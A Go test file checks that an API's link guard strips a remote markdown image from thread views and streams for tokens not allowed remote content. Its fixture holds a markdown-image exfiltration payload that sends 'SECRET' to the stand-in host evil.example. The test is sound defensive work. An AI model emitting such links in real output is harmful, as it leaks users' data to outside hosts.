package httpapi

import (
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"ponder"
	"ponder/internal/auth"
	"ponder/internal/stream"
	"ponder/mode/session"
	"ponder/store/memory"
)

// TestRemoteContent checks that a token with remote content leaves nothing of it in the views and streams of other tokens of its
// owner.
func TestRemoteContent(t *testing.T) {
	store := memory.New()
	const id, text = "thr_01JABCDEFGHJKMNPQRSTVWXYE1", "![x](http://evil.example/?d=SECRET)"
	err := store.Create(t.Context(), ponder.Thread{ID: id, Kind: ponder.KindSession, Owner: "local", Title: "Why?", Created: time.Now()},
		ponder.Event{Run: "run_1", Body: ponder.RunStarted{Mode: session.Name, Version: session.New().Version, Input: "Why?"}},
		ponder.Event{Run: "run_1", Body: ponder.Thought{Kind: "insight", Content: text}},
		ponder.Event{Run: "run_1", Body: ponder.Synthesis{Content: text, Final: true}},
		ponder.Event{Run: "run_1", Body: ponder.RunFinished{Answer: text, Status: ponder.Completed}})
	if err != nil {
		t.Fatal(err)
	}
	public := stream.PublicStore(store, stream.NewLinkGuard(store, stream.RemoteSources))
	h := New(t.Context(), Config{Store: public, Hub: stream.New(public), Requests: &memoryRequests{}, Logger: slog.New(slog.DiscardHandler), Guard: auth.New(auth.Config{Tokens: []auth.Token{
		{Name: "desk", Owner: "local", Scopes: auth.Scopes(), Hash: auth.HashOf("desk"), RemoteContent: true},
		{Name: "page", Owner: "local", Scopes: auth.Scopes(), Hash: auth.HashOf("page")},
	}})})
	for _, path := range []string{"/api/thinking/" + id, "/api/thinking/" + id + "/stream", "/api/thinking/" + id + "/syntheses", "/api/threads/" + id + "/events"} {
		for _, token := range []string{"desk", "page", "desk", "page"} {
			r := httptest.NewRequestWithContext(t.Context(), http.MethodGet, "http://127.0.0.1"+path, nil)
			r.Header.Set("Authorization", "Bearer "+token)
			w := httptest.NewRecorder()
			h.ServeHTTP(w, r)
			if got := w.Body.String(); w.Code != http.StatusOK || !strings.Contains(got, "evil.example") || strings.Contains(got, text) != (token == "desk") {
				t.Errorf("%s for %s: %d %s", path, token, w.Code, got)
			}
		}
	}
}
